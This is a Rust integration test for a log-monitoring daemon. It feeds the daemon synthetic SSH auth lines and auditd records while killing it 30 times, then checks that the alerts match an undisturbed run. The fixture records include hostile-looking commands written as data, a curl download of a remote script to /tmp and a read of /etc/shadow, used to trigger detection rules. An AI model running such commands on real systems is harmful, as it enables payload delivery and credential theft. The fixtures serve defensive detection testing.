//! The books after 30 × kill -9: a writer appends 50,000 auth and auditd lines with rotations while the
//! daemon is killed again and again; alerts, counts and ids equal those of an undisturbed run.

use std::collections::BTreeMap;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::support::PATIENCE;
use crate::support::daemon::{Daemon, run_json, run_ndjson};

const AUTH_LINES: usize = 30_000;
const AUDIT_EVENTS: usize = 5_000; // four records each
const ROTATE_EVERY: usize = 4_000;
const KILLS: usize = 30;
/// 2026-11-22T08:00:00Z
const START: i64 = 1_795_334_400;

/// Small deterministic numbers; no dependency on any generator of the product.
pub struct Numbers(pub u64);

impl Numbers {
    /// One below `n`.
    pub fn below(&mut self, n: u64) -> u64 {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % n
    }
}

fn auth_line(index: usize, numbers: &mut Numbers) -> String {
    let at = jiff::Timestamp::from_second(START + index as i64 / 4).unwrap();
    let host = format!("web{:02}", numbers.below(3));
    let pid = 1000 + numbers.below(9000);
    let address = format!("203.0.113.{}", numbers.below(12));
    let text = match numbers.below(20) {
        0 => format!("sshd[{pid}]: Accepted password for deploy from {address} port 22 ssh2"),
        1 => "sudo: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id"
            .to_owned(),
        2 => format!(
            "CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
        ),
        _ => format!(
            "sshd[{pid}]: Failed password for invalid user admin from {address} port 4022 ssh2"
        ),
    };
    format!("{at} {host} {text}\n")
}

pub fn audit_event(index: usize, numbers: &mut Numbers) -> String {
    let at = format!("{}.{:03}:{}", START + index as i64 / 2, numbers.below(1000), 5000 + index);
    let command = match numbers.below(40) {
        0 => "a0=\"curl\" a1=\"http://198.51.100.7/x.sh\" a2=\"-o\" a3=\"/tmp/x.sh\"".to_owned(),
        1 => "a0=\"cat\" a1=\"/etc/shadow\" a2=\"-A\" a3=\"-n\"".to_owned(),
        _ => format!("a0=\"ls\" a1=\"-l\" a2=\"/srv/{}\" a3=\"-a\"", numbers.below(50)),
    };
    let pid = 2000 + index;
    format!(
        "type=SYSCALL msg=audit({at}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 \
         ppid=1 pid={pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 \
         tty=pts0 ses=3 comm=\"sh\" exe=\"/usr/bin/sh\" key=\"exec\"\n\
         type=EXECVE msg=audit({at}): argc=4 {command}\n\
         type=CWD msg=audit({at}): cwd=\"/srv\"\n\
         type=EOE msg=audit({at}): \n"
    )
}

/// Appends to a file and rotates it by renaming, as logrotate does without `copytruncate`.
struct Log {
    path: PathBuf,
    written: usize,
    generation: usize,
}

impl Log {
    fn append(&mut self, text: &str, lines: usize) {
        let mut file = OpenOptions::new().create(true).append(true).open(&self.path).unwrap();
        file.write_all(text.as_bytes()).unwrap();
        self.written += lines;
        if self.written / ROTATE_EVERY > self.generation {
            for number in (1..=self.generation).rev() {
                fs::rename(self.numbered(number), self.numbered(number + 1)).unwrap();
            }
            fs::rename(&self.path, self.numbered(1)).unwrap();
            self.generation += 1;
        }
    }

    fn numbered(&self, number: usize) -> PathBuf {
        self.path.with_extension(format!("log.{number}"))
    }
}

fn config(folder: &Path) -> PathBuf {
    let logs = folder.join("logs");
    fs::create_dir_all(&logs).unwrap();
    let text = format!(
        "[[sources]]\nname = \"auth\"\npaths = [\"{0}/auth.log*\"]\nidle = \"500ms\"\nrescan = \"500ms\"\n\
         [[sources]]\nname = \"audit\"\npaths = [\"{0}/audit.log*\"]\nhost = \"db01\"\nidle = \"500ms\"\nrescan = \"500ms\"\n\
         [alert]\nundo = \"1s\"\n",
        logs.display()
    );
    let path = folder.join("watchfloor.toml");
    fs::write(&path, text).unwrap();
    path
}

/// Write everything while `disturb` may do what it likes between pieces. Returns the records written.
fn write_all(folder: &Path, mut disturb: impl FnMut(usize)) -> u64 {
    let logs = folder.join("logs");
    let mut auth = Log { path: logs.join("auth.log"), written: 0, generation: 0 };
    let mut audit = Log { path: logs.join("audit.log"), written: 0, generation: 0 };
    let (mut one, mut two) = (Numbers(7), Numbers(11));
    let pieces = 100;
    let mut records = 0;
    for piece in 0..pieces {
        let per = AUTH_LINES / pieces;
        let text: String =
            (piece * per..(piece + 1) * per).map(|i| auth_line(i, &mut one)).collect();
        auth.append(&text, per);
        let per_audit = AUDIT_EVENTS / pieces;
        let text: String = (piece * per_audit..(piece + 1) * per_audit)
            .map(|i| audit_event(i, &mut two))
            .collect();
        audit.append(&text, per_audit * 4);
        records += (per + per_audit * 4) as u64;
        disturb(piece);
    }
    records
}

fn received(status: &serde_json::Value) -> (u64, bool, u64) {
    let sources = status["sources"].as_array().unwrap();
    let sum = |key: &str| sources.iter().map(|s| s[key].as_u64().unwrap()).sum::<u64>();
    let balances = sources.iter().all(|source| source["balances"] == true);
    (sum("stored") + sum("rejected"), balances, sum("in_flight"))
}

/// Wait until every record is stored or rejected, then stop cleanly.
pub fn settle(mut daemon: Daemon, records: u64) -> serde_json::Value {
    let deadline = Instant::now() + PATIENCE;
    loop {
        let status = run_json(&daemon.config, &["status", "--format", "json"]);
        let (done, balances, in_flight) = received(&status);
        if done == records && in_flight == 0 {
            assert!(balances, "{status}");
            daemon.stop();
            return status;
        }
        assert!(Instant::now() < deadline, "{done} of {records} records settled: {status}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// What must be equal: id → rule, host, count, times, level, risk with its parts, and bundle.
fn alerts(config: &Path) -> BTreeMap<String, String> {
    run_ndjson(config, &["alerts", "list", "--format", "ndjson", "--limit", "1000000"])
        .iter()
        .map(|alert| {
            let keys = ["rule.id", "host.name", "count", "first_seen", "last_seen", "severity"];
            let parts = ["risk", "risk_parts", "bundle"];
            let of = |key: &&str| alert[*key].to_string();
            let text = keys.iter().chain(&parts).map(of).collect::<Vec<_>>().join(" ");
            (alert["id"].as_str().unwrap().to_owned(), text)
        })
        .collect()
}

#[test]
fn thirty_kills_change_nothing() {
    let calm = tempfile::tempdir().unwrap();
    let config_calm = config(calm.path());
    let daemon = Daemon::start(&config_calm, &calm.path().join("data"));
    let records = write_all(calm.path(), |_| std::thread::sleep(Duration::from_millis(20)));
    settle(daemon, records);
    let expected = alerts(&config_calm);
    assert!(expected.len() > 10, "the lines must raise alerts: {}", expected.len());

    let wild = tempfile::tempdir().unwrap();
    let config_wild = config(wild.path());
    let data = wild.path().join("data");
    let mut daemon = Some(Daemon::start(&config_wild, &data));
    let mut numbers = Numbers(std::process::id().into());
    let mut kills = 0;
    let records = write_all(wild.path(), |piece| {
        std::thread::sleep(Duration::from_millis(20 + numbers.below(60)));
        if piece % 3 == 2 && kills < KILLS {
            daemon.take().unwrap().kill();
            kills += 1;
            daemon = Some(Daemon::spawn(&config_wild, &data));
        }
    });
    assert_eq!(kills, KILLS);
    let daemon = daemon.take().unwrap();
    daemon.wait_ready();
    settle(daemon, records);
    let found = alerts(&config_wild);
    for (id, alert) in &expected {
        assert_eq!(found.get(id), Some(alert), "alert {id} differs after the kills");
    }
    assert_eq!(
        found.len(),
        expected.len(),
        "there are alerts that the undisturbed run did not raise"
    );
}
